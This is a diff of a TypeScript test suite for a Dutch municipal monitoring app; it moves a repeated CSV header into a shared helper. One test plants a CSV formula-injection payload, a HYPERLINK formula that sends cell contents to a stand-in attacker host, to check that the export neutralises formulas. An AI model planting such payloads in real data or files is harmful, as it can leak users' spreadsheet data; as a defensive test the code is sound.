@@ -1,12 +1,11 @@
 import { describe, expect, it } from "vitest";
 import { apiCaller, formPost, statusOf, useTestApp } from "../../../test/helpers/app.js";
+import { MEASUREMENT_HEADER, measurementCsv } from "../../../test/helpers/measurements.js";
 import { parseCsv } from "../../platform/csv.js";
 
 const t = useTestApp(["beleidsmedewerker"]);
 const staff = () => t.cookie("beleidsmedewerker");
 
-const header =
-  "indicator,gebied,jaar,kwartaal,soort,waarde,bron,publicatiedatum,status,toelichting";
 const importCsv = (csv: string, query = "", cookie: string | null = staff()) =>
   t.app.inject({
     method: "POST",
@@ -51,11 +50,10 @@ describe("monitoring API", () => {
       waarde: 15,
       nietGetoond: false,
     });
-    const csv = [
-      header,
+    const csv = measurementCsv(
       "cbs-wmo-clienten,WK035615,2022,,realisatie,6,Test,,,",
       "cbs-wmo-clienten,WK035608,2022,,realisatie,420,Test,,,",
-    ].join("\n");
+    );
     expect((await importCsv(csv)).statusCode).toBe(200);
     const wmo = (
       await t.app.inject({ url: "/api/v1/indicatoren/cbs-wmo-clienten/analyse" })
@@ -78,11 +76,10 @@ describe("monitoring API", () => {
   });
 
   it("imports nothing when one row is bad, reporting the row and reason (400)", async () => {
-    const csv = [
-      header,
+    const csv = measurementCsv(
       "msk-vrijwilligerswerk,GM0356,2026,,realisatie,37,Test,,,",
       "msk-vrijwilligerswerk,WK000000,2026,,realisatie,30,Test,,,",
-    ].join("\n");
+    );
     const res = await importCsv(csv);
     expect(res.statusCode).toBe(400);
     expect(res.json()).toMatchObject({
@@ -101,7 +98,7 @@ describe("monitoring API", () => {
       .gebieden.map((g: { code: string }) => g.code)
       .slice(0, 25);
     expect(areas).toHaveLength(25);
-    const lines = [header];
+    const lines = [MEASUREMENT_HEADER];
     for (let year = 1925; year <= 2024; year++)
       for (let q = 1; q <= 4; q++)
         for (const area of areas)
@@ -123,9 +120,9 @@ describe("monitoring API", () => {
   }, 120_000);
 
   it("refuses imports without a session (401), by a partner (403) and as a form post (415)", async () => {
-    expect((await importCsv(header, "", null)).statusCode).toBe(401);
+    expect((await importCsv(MEASUREMENT_HEADER, "", null)).statusCode).toBe(401);
     const partner = await t.sessionFor("partner");
-    expect((await importCsv(header, "", partner)).statusCode).toBe(403);
+    expect((await importCsv(MEASUREMENT_HEADER, "", partner)).statusCode).toBe(403);
     const form = await t.app.inject({
       method: "POST",
       url: "/api/v1/metingen/import",
@@ -168,7 +165,7 @@ describe("monitoring API", () => {
       url: "/api/v1/indicatoren/cbs-wmo-clienten/metingen?formaat=csv",
     });
     expect(res.headers["content-type"]).toMatch(/^text\/csv/);
-    expect(res.body.split("\r\n")[0]).toBe(header);
+    expect(res.body.split("\r\n")[0]).toBe(MEASUREMENT_HEADER);
     expect(res.body).toContain("cbs-wmo-clienten,GM0356,2022,,realisatie,3400");
   });
 });
@@ -216,12 +213,12 @@ describe("import page", () => {
     const post = (csv: string, actie: string) =>
       formPost(t.app, "/monitor/import", cookie, { _csrf: token, csv, actie });
     const bad = await post(
-      [header, "msk-vrijwilligerswerk,GM0356,2013,,realisatie,abc,Test,,,"].join("\n"),
+      measurementCsv("msk-vrijwilligerswerk,GM0356,2013,,realisatie,abc,Test,,,"),
       "voorbeeld",
     );
     expect(bad.statusCode).toBe(400);
     expect(bad.body).toContain("Regel 2: waarde &quot;abc&quot; is geen getal");
-    const good = [header, "msk-vrijwilligerswerk,GM0356,2013,,realisatie,38,Test,,,"].join("\n");
+    const good = measurementCsv("msk-vrijwilligerswerk,GM0356,2013,,realisatie,38,Test,,,");
     const preview = await post(good, "voorbeeld");
     expect(preview.statusCode).toBe(200);
     expect(preview.body).toContain("1 nieuwe meting,");
@@ -243,12 +240,11 @@ describe("import page", () => {
     const post = (csv: string) =>
       formPost(t.app, "/monitor/import", cookie, { _csrf: token, csv, actie: "voorbeeld" });
     const bad = await post(
-      [
-        header,
+      measurementCsv(
         "msk-vrijwilligerswerk,GM0356,2014,,realisatie,38,Test,2026-13-45,,",
         `msk-vrijwilligerswerk,GM0356,${future},,realisatie,38,Test,,,`,
         `msk-vrijwilligerswerk,GM0356,${future},,streefwaarde,40,Test,,,`,
-      ].join("\n"),
+      ),
     );
     expect(bad.statusCode).toBe(400);
     expect(bad.body).toContain("Regel 2: publicatiedatum &quot;2026-13-45&quot;");
@@ -258,7 +254,7 @@ describe("import page", () => {
     expect(bad.body).not.toContain("Regel 4:");
     expect(bad.body).not.toContain("in orde");
     const fraction = await post(
-      [header, 'msk-vrijwilligerswerk,GM0356,2015,,realisatie,"0,475",Test,,,'].join("\n"),
+      measurementCsv('msk-vrijwilligerswerk,GM0356,2015,,realisatie,"0,475",Test,,,'),
     );
     expect(fraction.statusCode).toBe(200);
     expect(fraction.body).toContain("Regel 2: waarde 0,475 lijkt een fractie; bedoelt u 47,5?");
@@ -325,7 +321,7 @@ describe("import page", () => {
     expect(manyParts.statusCode).toBeGreaterThanOrEqual(400);
     expect(manyParts.statusCode).toBeLessThan(500);
     const done = await upload(
-      [header, "msk-vrijwilligerswerk,GM0356,2016,,realisatie,36,Test,,,"].join("\n"),
+      measurementCsv("msk-vrijwilligerswerk,GM0356,2016,,realisatie,36,Test,,,"),
       "importeren",
     );
     expect(done.statusCode).toBe(303);
@@ -385,8 +381,7 @@ describe("Wmo cost view", () => {
   it("draws the actual costs as a solid line and the trend extended as a dotted line", async () => {
     const before = await t.app.inject({ url: "/monitor/wmo-kosten" });
     expect(before.body).toContain("Er is nog geen meting voor deze indicator.");
-    const csv = [
-      header,
+    const csv = measurementCsv(
       ...[
         [2019, "14.100.000"],
         [2020, "14.900.000"],
@@ -394,7 +389,7 @@ describe("Wmo cost view", () => {
         [2022, "16.900.000"],
         [2023, "18.200.000"],
       ].map(([y, v]) => `wmo-kosten,GM0356,${y},,realisatie,"${v}",Testbron,,,`),
-    ].join("\n");
+    );
     expect((await importCsv(csv)).statusCode).toBe(200);
     const svg = await t.app.inject({ url: "/monitor/wmo-kosten/grafiek.svg" });
     expect(svg.headers["content-type"]).toMatch(/^image\/svg\+xml/);
@@ -412,7 +407,7 @@ describe("export of a selection", () => {
     });
     expect(res.statusCode).toBe(200);
     const lines = res.body.trim().split("\r\n");
-    expect(lines[0]).toBe(header);
+    expect(lines[0]).toBe(MEASUREMENT_HEADER);
     expect(lines.slice(1).map((l) => l.split(",").slice(0, 6).join(","))).toEqual([
       "cbs-wmo-clienten,GM0356,2021,,realisatie,3380",
       "cbs-wmo-clienten,GM0356,2022,,realisatie,3400",
@@ -447,7 +442,9 @@ describe("export of a selection", () => {
   it("neutralises formulas in the CSV export, keeps negative numbers, and imports the export back unchanged", async () => {
     const source = '=HYPERLINK("http://aanval.example/?"&A1,"Klik hier")';
     const note = "@SUM(A1) -2";
-    const planted = `${header}\nwmo-kosten,GM0356,2011,,realisatie,"-1250,5","${source.replaceAll('"', '""')}",,definitief,${note}`;
+    const planted = measurementCsv(
+      `wmo-kosten,GM0356,2011,,realisatie,"-1250,5","${source.replaceAll('"', '""')}",,definitief,${note}`,
+    );
     expect((await importCsv(planted)).json()).toMatchObject({ geslaagd: true, nieuw: 1 });
     const url = "/api/v1/metingen?indicator=wmo-kosten&vanJaar=2011&totJaar=2011";
     const exported = (await t.app.inject({ url: `${url}&formaat=csv` })).body;
